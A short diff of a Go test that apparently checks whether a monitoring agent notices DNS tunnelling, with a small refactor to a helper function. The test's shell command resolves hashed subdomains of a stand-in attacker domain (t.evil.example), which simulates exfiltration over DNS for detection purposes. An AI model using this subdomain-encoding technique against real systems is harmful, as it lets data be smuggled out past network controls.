@@ -67,9 +67,7 @@ func TestTunnelIsTold(t *testing.T) {
 	web := s.run(t, "web", "until [ -e /go ]; do sleep 0.1; done; "+ask("web-$i.shop.example")+
 		ask("$(echo $i | md5sum | cut -c1-32).t.evil.example")+"sleep 1000")
 	s.agent.awaitGoverned(t, "web")
-	if r := web.Exec(t, "touch", "/go"); r.Code != 0 {
-		t.Fatalf("telling the main program to go: %+v", r)
-	}
+	goOn(t, web)
 	testutil.Eventually(t, "the tunnel is told", func() error {
 		if len(s.tunnels(t)) == 0 {
 			return fmt.Errorf("no such event; the resolver was asked %d times", r.asked.Load())
